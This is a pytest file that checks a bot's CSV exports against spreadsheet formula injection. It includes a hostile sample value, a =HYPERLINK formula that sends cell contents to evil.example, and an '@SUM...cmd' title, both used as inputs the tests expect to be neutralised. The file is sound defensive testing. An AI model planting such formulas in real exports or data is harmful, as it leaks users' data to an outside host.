"""CSV exports cannot carry spreadsheet formulas (OWASP CSV injection): text cells that start like a
formula are neutralised in every export; numbers, negative ones included, stay numbers."""
import csv
import io
from collections.abc import AsyncIterator
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import aiohttp
import pytest
from sqlalchemy import select

from bot.app import DB
from bot.web.csv_export import neutralise
from bot.jobs import accrue_points
from store.members import import_members, parse_members_csv
from store.models import Lead, PointsEntry
from tests.conftest import ADMIN_TOKEN, MEMBERS, Stack, admin_http, make_config, seed, start_stack
from tests.test_landing import GOOD, lead_notice_reached, open_form
from tests.test_links import BROWSER, link_code

REPO = Path(__file__).resolve().parents[1]
TITLE = "@SUM(1+1)*cmd"
NAME = '=HYPERLINK("https://evil.example/?x="&A1,"点我")'


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("张伟", "张伟"), ("a=b", "a=b"), ("", ""),
    (-5, -5), (Decimal("-25.00"), Decimal("-25.00")), (-0.5, -0.5), (None, None)])
def test_neutralise(value: object, written: object) -> None:
    assert neutralise(value) == written


def test_every_csv_export_goes_through_the_one_rule() -> None:
    """A new export that writes CSV itself would skip the rule: only bot/web/csv_export.py may."""
    writers = [path.relative_to(REPO).as_posix() for folder in ("bot", "handlers", "store")
               for path in (REPO / folder).rglob("*.py")
               if "csv.writer" in (text := path.read_text(encoding="utf-8")) or "csv.DictWriter" in text]
    assert writers == ["bot/web/csv_export.py"]


@pytest.fixture
async def evil_stack(sqlite_url: str) -> AsyncIterator[Stack]:
    """The standard stack with the admin API on, and WeCom user `evil` (made a member by the test)."""
    await seed(sqlite_url)
    config = make_config(sqlite_url)
    config.admin.api_token = ADMIN_TOKEN
    running = await start_stack(config, directory={m.userid: m.name for m in MEMBERS} | {"evil": NAME})
    yield running
    await running.stop()


async def fetch_csv(http: aiohttp.ClientSession, path: str) -> list[dict[str, str]]:
    async with http.get(path) as r:
        assert r.status == 200 and r.content_type == "text/csv", await r.text()
        return list(csv.DictReader(io.StringIO(await r.text())))


async def test_formulas_in_titles_and_names_are_neutralised_in_every_export(evil_stack: Stack) -> None:
    s = evil_stack
    async with admin_http(s) as http:
        async with http.post("/api/tasks", json={"title": TITLE, "url": "https://brand.example/x", "cost": "1000",
                                                 "status": "active"}) as r:
            assert r.status == 201
            task_id = (await r.json())["id"]
        async with http.patch("/api/partners/星河科技", json={"commission_rate": 0.05}) as r:
            assert r.status == 200
    # The formula-named person comes in through the members CSV import, as `members import` does.
    members_csv = 'userid,name,role,partner,region,industries\nevil,"' + NAME.replace('"', '""') + '",partner,星河科技,,\n'
    async with s.bot[DB].session() as session:
        await import_members(session, parse_members_csv(members_csv))
    await s.ask("mkt1", f"broadcast {task_id} partner:星河科技 confirm")
    await s.ask("evil", f"link {task_id}")
    code = await link_code(s, "p1", task_id)
    async with aiohttp.ClientSession(headers={"User-Agent": BROWSER}, cookie_jar=aiohttp.CookieJar(unsafe=True)) as visitor:
        token = await open_form(s, visitor, code)
        async with visitor.post(f"{s.bot_url}/l/{code}", data={**GOOD, "csrf": token}) as response:
            assert response.status == 200
    await lead_notice_reached(s, "p1")
    async with s.bot[DB].session() as session:
        [lead_id] = await session.scalars(select(Lead.id))
    [won] = await s.ask("p1", f"won {lead_id} 500")
    assert won == f"🎉 Lead #{lead_id} won: 500.00."
    async with admin_http(s) as http:
        [total, task_row] = await fetch_csv(http, "/api/stats/funnel?period=month&by=task&format=csv")
        assert (task_row["scope"], task_row["name"]) == ("task", "'" + TITLE)
        rows = await fetch_csv(http, "/api/stats/attribution?model=linear&period=month&format=csv")
        [task_row] = [row for row in rows if row["kind"] == "task"]
        # Revenue 500 on a cost of 1000: a negative ROI, written as a number.
        assert (task_row["name"], task_row["credited"], task_row["cost"], task_row["roi"]) == \
            ("'" + TITLE, "500.00", "1000.00", "-0.5000")
    # The ledger books the share, the lead and the win; held as fraud, the lead's are reversed.
    await accrue_points(s.bot[DB], s.config)
    async with s.bot[DB].session() as session:
        (await session.get(Lead, lead_id)).held = True
    await accrue_points(s.bot[DB], s.config)
    async with s.bot[DB].session() as session:
        booked = (await session.scalars(select(PointsEntry.at))).first()
    month = booked.astimezone(ZoneInfo(s.config.server.timezone)).strftime("%Y-%m")
    async with admin_http(s) as http:
        rows = await fetch_csv(http, f"/api/points/statement?partner=星河科技&month={month}&format=csv")
        async with http.get(f"/api/points/statement?partner=星河科技&month={month}") as r:
            as_json = (await r.json())["rows"]
    assert [row["name"] for row in rows if row["member"] == "evil"] == ["'" + NAME]
    reversals = sorted((row["points"], row["commission"]) for row in rows if row["kind"] == "reversal")
    assert reversals == [("-10", "0.00"), ("-50", "-25.00")]
    # JSON is unchanged: the raw name, amounts as strings.
    assert [row["name"] for row in as_json if row["member"] == "evil"] == [NAME]
    assert sorted((row["points"], row["commission"]) for row in as_json if row["kind"] == "reversal") == \
        [(-50, "-25.00"), (-10, "0.00")]
